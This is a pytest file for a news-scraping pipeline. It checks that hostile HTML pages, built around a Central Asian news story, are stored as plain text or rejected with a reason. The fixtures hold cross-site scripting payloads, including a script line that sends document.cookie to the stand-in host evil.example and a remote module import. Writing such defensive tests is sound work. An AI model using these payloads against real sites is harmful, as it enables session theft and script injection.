"""Hostile pages through the pure stages, extraction to document: a clear outcome, nothing executable stored.

Each page is what an attacker (or a broken CMS) may serve. The pipeline's answer is either an article whose
every stored string is plain text, or a rejection with its reason (which goes to quarantine). Feed-level
hostility (entity bombs, external entities, javascript: links) is covered by tests/unit/test_feed_parse.py.
"""

from __future__ import annotations

import time
from datetime import UTC, datetime

import pytest

from pipeline.bench.chaos import UNSAFE
from pipeline.process import MAX_TITLE_CHARS, Rejected, article_from_page
from pipeline.records import Feed, FeedEntry, FetchedPage
from pipeline.store.document import InvalidArticle, to_source
from pipeline.tag import tag_article

STORY = (
    "Kassym-Jomart Tokayev met Shavkat Mirziyoyev in Astana on Tuesday to discuss water sharing on the "
    "Syr Darya and a new rail link between the two countries. The presidents signed eleven agreements "
    "worth two billion dollars, officials said, and asked their governments to prepare a joint programme. "
)
PARAGRAPHS = [STORY, STORY.replace("Tuesday", "Wednesday"), STORY.replace("eleven", "twelve")]


def page(body: str, head: str = "<title>Tokayev and Mirziyoyev meet in Astana</title>") -> bytes:
    document = f'<!DOCTYPE html><html><head><meta charset="utf-8">{head}</head><body>{body}</body></html>'
    return document.encode()


def article(*extra: str) -> str:
    """The story with hostile fragments between its paragraphs."""
    parts = [f"<p>{text}</p>" for text in PARAGRAPHS]
    for i, fragment in enumerate(extra):
        parts.insert(1 + i % len(parts), fragment)
    return "<article><h1>Tokayev and Mirziyoyev meet in Astana</h1>" + "".join(parts) + "</article>"


HOSTILE_PAGES = {
    "script elements": page(article("<script>fetch('//evil.example/'+document.cookie)</script>",
                                     "<script type=module>import('//evil.example/x.js')</script>")),
    "event handlers": page(article('<p onclick="alert(1)" onmouseover="steal()">Click for more.</p>',
                                   '<img src=x onerror="alert(2)">', '<body onload="alert(3)">')),
    "javascript urls": page(article('<p><a href="javascript:alert(1)">statement</a></p>',
                                    '<iframe src="javascript:alert(2)"></iframe>',
                                    '<form action="javascript:alert(3)"><button>Go</button></form>')),
    "data urls": page(article('<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
                              '<object data="data:text/html,<script>alert(1)</script>"></object>',
                              '<embed src="data:image/svg+xml,<svg onload=alert(2)>">')),
    "svg payloads": page(article('<svg onload="alert(1)"><script>alert(2)</script>'
                                 '<foreignObject><iframe src="javascript:alert(3)"></iframe>'
                                 '</foreignObject></svg>',
                                 '<math><mtext><table><mglyph><style><img src=x onerror=alert(4)>')),
    "markup in the title": page(article(), head="<title><script>alert(1)</script>Tokayev</title>"
                                "<meta property='og:title' content='<img src=x onerror=alert(1)>'>"),
    "escaped markup as text": page(article("<p>&lt;script&gt;alert(1)&lt;/script&gt; was in the leak.</p>")),
    "style and meta refresh": page(article("<style>body{background:url(javascript:alert(1))}</style>",
                                           '<meta http-equiv="refresh" content="0;url=javascript:x()">')),
    "control characters": page(article("<p>\x00\x01\x07\x1b[31m\x7f\u202e\ufeff Ctrl\x0b\x0c</p>")),
    "one megabyte title": page(article(), head=f"<title>{'Tokayev ' * 131072}</title>"),
    "deeply nested markup": page("<div>" * 20000 + article() + "</div>" * 20000),
    "unclosed nesting": page("<table><tr><td><span><b><i>" * 3000 + article()),
}
INVALID_UTF8 = page(article()).replace(b"Astana on Tuesday", b"Astana \xff\xfe\xc3( on \xed\xa0\x80 Tuesday")


def fetched(body: bytes, url: str = "https://news.example.kz/2025/11/tokayev-mirziyoyev") -> FetchedPage:
    feed = Feed(name="Example", url="https://news.example.kz/rss", language="en", country="KZ")
    return FetchedPage(url=url, final_url=url, status=200, headers={"content-type": "text/html"}, body=body,
                       fetched_at=datetime(2025, 11, 25, tzinfo=UTC), feed=feed,
                       entry=FeedEntry(url=url, title="<b>Tokayev</b> meets Mirziyoyev"))


def stored_strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for item in value.values() for s in stored_strings(item)]
    if isinstance(value, list):
        return [s for item in value for s in stored_strings(item)]
    return []


def outcome(body: bytes) -> dict | str:
    """The stored document, or the quarantine reason."""
    result = article_from_page(fetched(body))
    if isinstance(result, Rejected):
        return result.reason
    try:
        return to_source(result)
    except InvalidArticle as error:
        return str(error)


@pytest.mark.parametrize("name", sorted(HOSTILE_PAGES))
def test_hostile_page_is_stored_as_plain_text_or_rejected_with_a_reason(name):
    started = time.perf_counter()
    result = outcome(HOSTILE_PAGES[name])
    assert time.perf_counter() - started < 30, "a hostile page must not stall the batch"
    if isinstance(result, str):
        assert result.strip(), "a rejection names its reason"
        return
    unsafe = [s[:120] for s in stored_strings(result) if UNSAFE.search(s)]
    assert unsafe == []
    assert "water sharing on the Syr Darya" in result["body"], "the story itself survives"
    assert not any(ch in result["body"] for ch in "\x00\x01\x07\x1b\x7f")
    assert len(result["title"]) <= MAX_TITLE_CHARS


def test_invalid_utf8_is_decoded_with_replacements_not_an_error():
    result = outcome(INVALID_UTF8)
    assert isinstance(result, dict), result
    assert "water sharing on the Syr Darya" in result["body"]


@pytest.mark.parametrize("text", [
    "\x00" * 1000, "\ufffd" * 500, "Tokayev " * 200_000, "<script>" * 10_000,
    "".join(chr(c) for c in range(0x20, 0x3000)),
])
def test_tagging_takes_any_text(text):
    tags = tag_article(text, title=text[:1000])
    assert isinstance(tags.countries, list)
